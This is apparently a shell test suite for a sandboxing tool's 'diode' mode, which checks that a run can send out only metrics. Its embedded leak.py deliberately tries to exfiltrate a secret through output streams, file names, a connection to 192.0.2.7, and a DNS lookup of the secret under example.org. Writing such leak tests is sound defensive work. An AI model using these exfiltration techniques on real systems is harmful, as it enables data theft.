#!/bin/sh
# A script that read a secret tries every way out of a diode run; what it said is nowhere in the store afterwards.
. "${WB_TEST_SRCDIR:-$(dirname "$0")/../..}/tests/journey/lib.sh"
need_sandbox
expect 0 wb doctor --json
[ "$(grep -o '"tier":[0-9]' "$WORK/out" | head -1)" = '"tier":1' ] || skip "a diode run needs tier 1"
python=$(python_with socket json) || skip "no python3"
project
secret=patientseventeen
echo "$secret" >"$WORK/secret.txt"
cat >leak.py <<'END2'
import json, os, socket, sys
secret = open(os.environ["WB_INPUTS"] + "/secret").read().strip()
print("out", secret, flush=True)
print("err", secret, file=sys.stderr, flush=True)
open("artifact-" + secret, "w").write(secret)
open(os.environ["WB_OUTPUTS"] + "/" + secret, "w").write(secret)
os.makedirs("folder-" + secret)
os.symlink(secret, "link-" + secret)
for name in ("/etc/", "/root/", "/home/", "/"):
    try:
        open(name + secret, "w")
    except OSError:
        pass
try:
    s = socket.socket(); s.settimeout(2); s.connect(("192.0.2.7", 4242))
except OSError:
    pass
try:
    socket.getaddrinfo(secret + ".example.org", 80)
except OSError:
    pass
door = socket.socket(socket.AF_UNIX)
door.connect(os.environ["WB_EVENTS"])
def say(text):
    door.sendall(text.encode() + b"\n")
say(json.dumps({"param": "p", "value": secret}))
say(json.dumps({"param": secret, "value": "1"}))
say(json.dumps({"tag": secret, "value": secret}))
say("tag t=" + secret)
say("this is no event: " + secret)
say("metric two words %s=1" % secret)
say(json.dumps({"metric": secret + " with blanks", "value": 1}))
say(json.dumps({"metric": "loss", "value": 0.123456789012345, "step": 3, "time_ms": 171717171717}))
say(json.dumps({"metric": "loss", "value": 1, "step": 4242424242424242}))
for i in range(100):
    say(json.dumps({"metric": "key%d" % i, "value": i}))
door.sendall(b'{"sync":1}\n')
door.recv(100)
os.abort() if len(sys.argv) > 1 and sys.argv[1] == "abort" else sys.exit(3)
END2

# Nothing of the store, of what wb printed, or of its answers holds the secret.
nothing_leaked() # RUN
{
	for command in "show $1" "show --json $1" "logs $1" "logs --json $1" "artifacts ls $1" "metrics $1"; do
		expect 0 wb $command
		out_lacks "$secret"
		err_lacks "$secret"
	done
	grep -rl "$secret" .wb >"$WORK/found" 2>/dev/null
	# Its path is not a word of the run's.
	[ ! -s "$WORK/found" ] || fail "the store holds the secret: $(cat "$WORK/found")"
	[ -z "$(find .wb -name "*$secret*")" ] || fail "a file of the store is called like the secret"
	[ ! -e ".wb/runs/$1/work" ] && [ ! -e ".wb/runs/$1/out" ] || fail "the run's scratch is still there"
}

expect 3 wb run --diode -i secret="$WORK/secret.txt" -- "$python" leak.py
out_lacks "$secret"
err_lacks "$secret"
err_has 'its output is withheld'
expect 0 wb show --json @
run=$(json run_id)
same "the record says so" '{"out_bytes": 0}' "$(json diode)"
same "output was withheld" true "$(json withheld.output)"
same "no artifact" '[]' "$(json artifacts)"
same "nothing is told of what was not collected" '' "$(grep -o not_collected "$WORK/out")"
same "no param" '{}' "$(json params)"
same "no tag" '{}' "$(json tags)"
same "no measurements" '{}' "$(json system)"
same "its end is told" 'FAILED(3)' "$(json status)"
"$PYTHON" - "$WORK/out" <<'END2' || fail "the record says too much"
import json, struct, sys
r = json.load(open(sys.argv[1]))
assert len(r["metrics"]) == 64, r["metrics"]
assert r["metrics"]["loss"] == struct.unpack("f", struct.pack("f", 0.123456789012345))[0], r["metrics"]["loss"]
# Four words, a line that is none, two keys with blanks, a step past reason, and 37 names too many.
assert r["withheld"]["events"] >= 40, r["withheld"]
assert all(d["object"] == "" for d in r["denials"]), r["denials"]
assert r["denials"] == sorted(r["denials"], key=lambda d: d["call"])
assert r["usage"]["peak_memory_bytes"] % (64 << 20) == 0, r["usage"]
assert r["usage"]["cpu_s"] == int(r["usage"]["cpu_s"]), r["usage"]
END2
expect 0 wb metrics "$run" loss --json
same "one point" 1 "$(wc -l <"$WORK/out")"
! grep -q 171717171717 "$WORK/out" || fail "the time of a metric was the script's own"
same "whole seconds" 0 "$(($(json time_ms) % 1000))"
nothing_leaked "$run"
expect 0 wb show "$run"
out_has 'only metrics leave it; its output is withheld'
out_has 'refused: only metrics leave a diode run'
expect 0 wb logs "$run"
err_has 'output of this run is withheld'

# A killed one leaves no more; a rerun is one too.
expect 134 wb run --diode -i secret="$WORK/secret.txt" -- "$python" leak.py abort
expect 0 wb show --json @
nothing_leaked "$(json run_id)"
expect 3 wb rerun "$run"
out_lacks "$secret"
expect 0 wb show --json @
same "the rerun is a diode run" '{"out_bytes": 0}' "$(json diode)"
nothing_leaked "$(json run_id)"
expect 0 wb run -d --json --diode -i secret="$WORK/secret.txt" -- "$python" leak.py
detached=$(json run_id)
expect 3 wb attach "$detached"
nothing_leaked "$detached"

# One whose supervisor is killed leaves its files to the next command that finds it lost, not to whoever looks later.
expect 0 wb run -d --json --diode -i secret="$WORK/secret.txt" -- sh -c 'cp "$WB_INPUTS/secret" stolen; wb log metric up=1; exec sleep 1000'
lost=$(json run_id)
is_up() { wb metrics "$lost" 2>/dev/null | grep -q up; }
wait_for 30 is_up || fail "the run does not come up"
(cd ".wb/runs/$lost/work" && grep -q "$secret" upper/stolen) || fail "the layer is not where this test looks"
for pid in $(ls /proc | grep '^[0-9]*$'); do
	[ "$(cat "/proc/$pid/comm" 2>/dev/null)" = wb-supervisor ] || continue
	! ls -l "/proc/$pid/fd" 2>/dev/null | grep -q "$lost" || kill -9 "$pid"
done
is_lost() { wb show "$lost" 2>/dev/null | grep -q LOST; }
wait_for 30 is_lost || fail "the run is not lost"
nothing_leaked "$lost"

# The cap counts both streams together, and does not tell them apart.
expect 0 wb run --diode --diode-out 10 -- sh -c 'printf 123456 >&2; sleep 0.1; printf abcdefgh; exec >&-'
same "ten bytes" 123456abcd "$(cat "$WORK/out")"
expect 0 wb logs --json @
! grep -q stderr "$WORK/out" || fail "the streams are told apart"
same "one time for all" 1 "$(grep -o '"time_ms":[0-9]*' "$WORK/out" | sort -u | wc -l)"
# One that floods its output is still held to its limits.
expect 124 timeout 60 wb run --diode --time 1s -- sh -c 'while :; do echo yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy; done'
expect 0 wb show @
out_has 'it went past its limit of time'

# A policy can insist on it.
cat >.wb/policy/diode.rego <<'END2'
package wb.diode
deny contains "data tagged PII needs --diode" if {
	count(input.data) > 0
	not input.sandbox.diode
}
END2
expect 120 wb run -i secret="$WORK/secret.txt" -- true
err_has 'data tagged PII needs --diode'
expect 0 wb run --diode -i secret="$WORK/secret.txt" -- true

# What it cannot be combined with, and what a dry run says.
expect 125 wb run --diode --net example.org:443 -- true
err_has '--diode and --net example.org:443 do not go together'
expect 125 wb run --diode-out 1K -- true
err_has '--diode-out without --diode'
expect 125 wb run --diode --diode-out lots -- true
expect 125 wb run --diode --tier 2 -- true
err_has '--diode needs tier 1'
expect 0 wb run --diode --diode-out 4K --dry-run -- true
out_has 'diode    metrics leave, nothing else; output up to 4.0 KiB'
